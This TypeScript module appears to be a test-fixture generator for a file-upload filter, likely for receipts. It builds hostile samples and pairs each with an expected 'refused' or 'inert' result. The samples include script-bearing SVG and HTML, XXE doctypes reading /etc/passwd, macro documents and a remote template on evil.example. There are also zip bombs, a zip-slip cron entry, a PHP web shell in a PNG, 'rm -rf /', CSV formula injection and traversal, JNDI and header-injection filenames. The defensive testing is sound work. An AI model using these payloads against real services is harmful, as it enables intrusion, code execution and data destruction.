import { randomBytes } from "node:crypto";
import { brotliCompressSync, crc32, deflateRawSync, deflateSync, gzipSync } from "node:zlib";

/** A file somebody might send to hurt: refused, or stored so that nothing in it can run. */
export type Hostile = readonly [what: string, fileName: string, bytes: Buffer, outcome: "refused" | "inert"];

const ascii = (text: string) => Buffer.from(text, "latin1");
const hex = (text: string) => Buffer.from(text.replaceAll(" ", ""), "hex");
const join = (...parts: (string | Buffer)[]) =>
  Buffer.concat(parts.map((one) => (typeof one === "string" ? ascii(one) : one)));

/** A zip as `zip` writes it: one entry a file. */
function zipOf(entries: Readonly<Record<string, string | Buffer>>): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let at = 0;
  for (const [name, content] of Object.entries(entries)) {
    const [plain, packed] = [Buffer.from(content), deflateRawSync(content)];
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(crc32(plain), 10);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(plain.length, 18);
    common.writeUInt16LE(Buffer.byteLength(name), 22);
    const local = join(hex("504b0304"), common, name, packed);
    const offset = Buffer.alloc(14);
    offset.writeUInt32LE(at, 10);
    central.push(join(hex("504b0102 1400"), common, offset, name));
    locals.push(local);
    at += local.length;
  }
  const list = Buffer.concat(central);
  const tail = Buffer.alloc(18);
  tail.writeUInt16LE(central.length, 4);
  tail.writeUInt16LE(central.length, 6);
  tail.writeUInt32LE(list.length, 8);
  tail.writeUInt32LE(at, 12);
  return join(...locals, list, hex("504b0506"), tail);
}

function chunk(type: string, data: Buffer): Buffer {
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(join(type, data)));
  return join(length, type, data, sum);
}

/** A PNG of a size, with pieces of its own between head and picture. */
function pngOf(width: number, height: number, ...more: Buffer[]): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const rows = Buffer.alloc(Math.min((width * 3 + 1) * height, 12_000_000));
  return join(
    hex("89504e470d0a1a0a"),
    chunk("IHDR", head),
    ...more,
    chunk("IDAT", deflateSync(rows)),
    chunk("IEND", Buffer.alloc(0)),
  );
}

export const png = () => pngOf(2, 2, chunk("tEXt", join("x\0", randomBytes(8).toString("hex"))));
export const pdf = (more: string | Buffer = "") =>
  join(
    "%PDF-1.7\n",
    `%${randomBytes(8).toString("hex")}\n`,
    more,
    "\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
  );
const jpeg = (more: string | Buffer = "") => {
  const comment = join(hex("fffe"), hex("0012"), randomBytes(16));
  return join(hex("ffd8ffe000104a46494600010100000100010000"), comment, more, hex("ffd9"));
};
const gif = (more: string) => join("GIF89a", more);
const script = "<script>alert(document.domain)</script>";
const html = `<!doctype html><html><body>${script}</body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
const office = (main: string, more: Readonly<Record<string, string | Buffer>> = {}) =>
  zipOf({ "[Content_Types].xml": `<Types><Override PartName="/${main}"/></Types>`, [main]: "<x/>", ...more });
const macros = hex("d0cf11e0a1b11ae1");
const zeros = (n: number) => Buffer.alloc(n);

const markup: readonly Hostile[] = [
  ["SVG with script", "kvittering.svg", ascii(svg), "refused"],
  ["SVG with a declaration", "a.svg", ascii(`<?xml version="1.0"?>${svg}`), "refused"],
  ["SVG with a byte-order mark", "a.svg", join(hex("efbbbf"), svg), "refused"],
  ["SVG in UTF-16", "a.svg", Buffer.from(`\ufeff${svg}`, "utf16le"), "refused"],
  ["SVG packed", "a.svgz", gzipSync(svg), "refused"],
  ["SVG called PNG", "a.png", ascii(svg), "refused"],
  ["SVG after white space", "a.svg", ascii(`${" \n".repeat(500)}${svg}`), "refused"],
  [
    "SVG with a doctype that fetches",
    "a.svg",
    ascii(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`),
    "refused",
  ],
  ["entities that swell", "a.xml", ascii('<!DOCTYPE a [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><a>&b;</a>'), "refused"],
  ["HTML", "kvittering.html", ascii(html), "refused"],
  ["HTML called PDF", "kvittering.pdf", ascii(html), "refused"],
  ["HTML called JPEG", "kvittering.jpg", ascii(html), "refused"],
  ["HTML in UTF-7", "a.html", ascii("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), "refused"],
  ["HTML after a comment", "a.html", ascii(`<!--${"x".repeat(4_000)}-->${html}`), "refused"],
  ["XHTML", "a.xhtml", ascii(`<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`), "refused"],
  [
    "MHTML",
    "a.mht",
    ascii(`MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\n\n${html}`),
    "refused",
  ],
  [
    "a mail",
    "kvittering.eml",
    ascii(`From: a@example.dk\nSubject: Faktura\nContent-Type: text/html\n\n${html}`),
    "refused",
  ],
  ["an Outlook mail", "kvittering.msg", join(macros, zeros(600)), "refused"],
  ["a link file", "a.url", ascii("[InternetShortcut]\nURL=javascript:alert(1)"), "refused"],
  ["a calendar", "a.ics", ascii("BEGIN:VCALENDAR\nEND:VCALENDAR"), "refused"],
  ["script", "a.js", ascii("alert(1)"), "refused"],
  ["plain text", "a.txt", ascii("Frokost 212 kr."), "refused"],
  ["CSV with formulas", "a.csv", ascii("a;b\n=cmd|' /C calc'!A0;1"), "refused"],
  ["RTF", "a.rtf", ascii("{\\rtf1{\\object\\objdata 01}}"), "refused"],
  ["PostScript", "a.ps", ascii("%!PS-Adobe-3.0\n(x) run"), "refused"],
  ["encapsulated PostScript", "a.eps", ascii("%!PS-Adobe-3.0 EPSF-3.0\n"), "refused"],
];

const office_: readonly Hostile[] = [
  ["a workbook", "bilag.xlsx", office("xl/workbook.xml"), "refused"],
  ["a workbook with macros", "bilag.xlsm", office("xl/workbook.xml", { "xl/vbaProject.bin": macros }), "refused"],
  [
    "a workbook with macros called plain",
    "bilag.xlsx",
    office("xl/workbook.xml", { "xl/vbaProject.bin": macros }),
    "refused",
  ],
  ["a letter", "brev.docx", office("word/document.xml"), "refused"],
  ["a letter with macros", "brev.docm", office("word/document.xml", { "word/vbaProject.bin": macros }), "refused"],
  [
    "a letter with a foreign template",
    "brev.docx",
    office("word/document.xml", {
      "word/_rels/settings.xml.rels": '<Relationship Target="http://evil.example/t.dotm" TargetMode="External"/>',
    }),
    "refused",
  ],
  ["slides with macros", "a.pptm", office("ppt/presentation.xml", { "ppt/vbaProject.bin": macros }), "refused"],
  [
    "an OpenDocument sheet",
    "a.ods",
    zipOf({ mimetype: "application/vnd.oasis.opendocument.spreadsheet", "Basic/Standard/x.xml": "<x/>" }),
    "refused",
  ],
  ["an OpenDocument text", "a.odt", zipOf({ mimetype: "application/vnd.oasis.opendocument.text" }), "refused"],
  ["an old workbook", "a.xls", join(macros, zeros(2_000)), "refused"],
  ["an old letter called PDF", "a.pdf", join(macros, zeros(2_000)), "refused"],
];

const programs: readonly Hostile[] = [
  ["a Windows program", "faktura.exe", join("MZ", zeros(200)), "refused"],
  ["a Windows program called PDF", "faktura.pdf", join("MZ", zeros(200)), "refused"],
  ["two endings", "faktura.pdf.exe", join("MZ", zeros(200)), "refused"],
  ["a Linux program", "a", join(hex("7f454c46 02010100"), zeros(200)), "refused"],
  ["a Mac program", "a", join(hex("cffaedfe"), zeros(200)), "refused"],
  [
    "a Java program",
    "a.jar",
    zipOf({ "META-INF/MANIFEST.MF": "Main-Class: X", "X.class": hex("cafebabe") }),
    "refused",
  ],
  ["a Java class", "X.class", hex("cafebabe00000034"), "refused"],
  ["WebAssembly", "a.wasm", hex("0061736d01000000"), "refused"],
  ["a shell script", "a.sh", ascii("#!/bin/sh\nrm -rf /"), "refused"],
  ["a batch file", "a.bat", ascii("@echo off\r\ndel *.*"), "refused"],
  ["PowerShell", "a.ps1", ascii("Invoke-Expression x"), "refused"],
  ["an installer", "a.msi", join(macros, zeros(600)), "refused"],
  ["a shortcut", "a.lnk", hex("4c000000 01140200 00000000 c0000000 00000046"), "refused"],
  ["Flash", "a.swf", join("FWS", zeros(60)), "refused"],
  ["a disc", "a.iso", join(zeros(32_769), "CD001", zeros(200)), "refused"],
  ["EICAR", "eicar.com", ascii(eicar), "refused"],
  ["EICAR called PDF", "eicar.pdf", ascii(eicar), "refused"],
  ["EICAR in a zip", "eicar.zip", zipOf({ "eicar.com": eicar }), "refused"],
  ["EICAR in a zip in a zip", "eicar.zip", zipOf({ "a.zip": zipOf({ "eicar.com": eicar }) }), "refused"],
  ["EICAR inside a PDF, where no scanner is", "a.pdf", pdf(eicar), "inert"],
];

const bombs: readonly Hostile[] = [
  ["a zip bomb", "a.zip", zipOf({ "0": zeros(50_000_000) }), "refused"],
  ["a zip bomb called PDF", "a.pdf", zipOf({ "0": zeros(50_000_000) }), "refused"],
  ["a zip of zips", "a.zip", zipOf({ a: zipOf({ b: zipOf({ c: zeros(10_000_000) }) }) }), "refused"],
  ["a zip with climbing names", "a.zip", zipOf({ "../../../etc/cron.d/x": "* * * * * root x" }), "refused"],
  [
    "a workbook that swells",
    "a.xlsx",
    office("xl/workbook.xml", { "xl/sharedStrings.xml": zeros(50_000_000) }),
    "refused",
  ],
  ["gzip that swells", "a.gz", gzipSync(zeros(50_000_000)), "refused"],
  ["brotli that swells", "a.br", brotliCompressSync(zeros(10_000_000)), "refused"],
  ["a tar", "a.tar", join("x", zeros(256), "ustar", zeros(250)), "refused"],
  ["7z", "a.7z", hex("377abcaf271c0004"), "refused"],
  ["RAR", "a.rar", hex("526172211a0700"), "refused"],
  ["a picture of 60,000 times 60,000", "a.png", pngOf(60_000, 60_000), "inert"],
  [
    "a PDF whose stream swells",
    "a.pdf",
    pdf(join("2 0 obj<</Filter/FlateDecode/Length 1>>stream\n", deflateSync(zeros(10_000_000)), "\nendstream endobj")),
    "inert",
  ],
];

const polyglots: readonly Hostile[] = [
  ["a PDF that is a zip too", "a.pdf", join(pdf(), zipOf({ "a.html": html })), "inert"],
  ["a zip that is a PDF too", "a.pdf", join(zipOf({ "a.html": html }), pdf()), "refused"],
  [
    "a JPEG that is a Java program too",
    "a.jpg",
    join(jpeg(), zipOf({ "META-INF/MANIFEST.MF": "Main-Class: X" })),
    "inert",
  ],
  ["a JPEG with HTML in its comment", "a.html", jpeg(html), "inert"],
  [
    "a JPEG that is script too",
    "a.js",
    join(hex("ffd8ffe0 2f2a"), "4a464946 ".repeat(400), "*/=alert(1);/*", hex("ffd9")),
    "inert",
  ],
  ["a PNG with HTML in its text", "a.png", pngOf(2, 2, chunk("tEXt", join("x\0", html))), "inert"],
  ["a PNG with PHP in it", "a.php", pngOf(2, 2, chunk("tEXt", ascii('x\0<?php system($_GET["x"]); ?>'))), "inert"],
  ["a PNG with a page behind it", "a.png", join(png(), html), "inert"],
  ["a GIF that is script too", "a.gif", gif(`/*${"x".repeat(200)}*/=1;alert(1)`), "refused"],
  ["a GIF", "a.gif", gif("\x01\0\x01\0\x80\0\0;"), "refused"],
  ["a BMP that is script too", "a.bmp", ascii(`BM/*${"x".repeat(60)}*/=1;alert(1)`), "refused"],
  ["HTML that is a PDF too", "a.pdf", join(html, pdf()), "refused"],
  ["a PDF that begins late", "a.pdf", join("\n".repeat(200), pdf()), "refused"],
  ["a PDF with script", "a.pdf", pdf("3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"), "inert"],
  ["a PDF that starts a program", "a.pdf", pdf("3 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "inert"],
  ["a PDF with a page in it", "a.pdf", pdf(html), "inert"],
  ["a PDF called HTML", "a.html", pdf(), "inert"],
  ["a PDF called a program", "faktura.exe", pdf(), "inert"],
  ["a PNG called SVG", "a.svg", png(), "inert"],
  ["RIFF that is no picture", "a.webp", join("RIFF", hex("24000000"), "WAVEfmt "), "refused"],
  ["a film", "a.heic", join(hex("00000018"), "ftypmp42", zeros(60)), "refused"],
  ["an icon", "a.ico", hex("00000100 0100"), "refused"],
  ["a JPEG head alone", "a.jpg", hex("ffd8"), "refused"],
  ["a PNG head alone", "a.png", hex("89504e47"), "refused"],
];

const sizes: readonly Hostile[] = [
  ["nothing", "a.pdf", Buffer.alloc(0), "refused"],
  ["one byte", "a.pdf", ascii("%"), "refused"],
  ["one byte over the limit", "a.pdf", join("%PDF-1.7\n", zeros(20 * 1_048_576 - 8)), "refused"],
  ["exactly the limit", "a.pdf", join("%PDF-1.7\n", zeros(20 * 1_048_576 - 9)), "inert"],
  ["a picture over the limit", "a.jpg", join(jpeg(), zeros(21_000_000)), "refused"],
];

/** Names that lead elsewhere, hide what a file is, or break a header; each on a harmless PDF. */
export const hostileNames: readonly string[] = [
  "../../../etc/passwd",
  "..\\..\\windows\\system32\\x.pdf",
  "/etc/passwd",
  "C:\\Users\\x\\a.pdf",
  "a.pdf/../../b.pdf",
  "..",
  ".",
  ".htaccess",
  "a\u202efdp.exe",
  "a\u2066b\u2069.pdf",
  "a\u200bb.pdf",
  "\ufeffa.pdf",
  'a".pdf',
  "a;b=c.pdf",
  "a%0d%0aX-Y: z.pdf",
  "a%2e%2e%2fb.pdf",
  "a'; filename*=UTF-8''x.html",
  "<img src=x onerror=alert(1)>.pdf",
  "æøå ÆØÅ é ß 中文 🦊.pdf",
  "e\u0301.pdf",
  "con.pdf",
  "a.pdf ",
  " .pdf",
  "a:b.pdf",
  "a|b*c?.pdf",
  `${"x".repeat(900)}.pdf`,
  `${"🦊".repeat(80)}.pdf`,
  "=1+1.pdf",
  "#{jndi:ldap://x}.pdf",
  "{{7*7}}.pdf",
];

export const hostile: readonly Hostile[] = [...markup, ...office_, ...programs, ...bombs, ...polyglots, ...sizes];
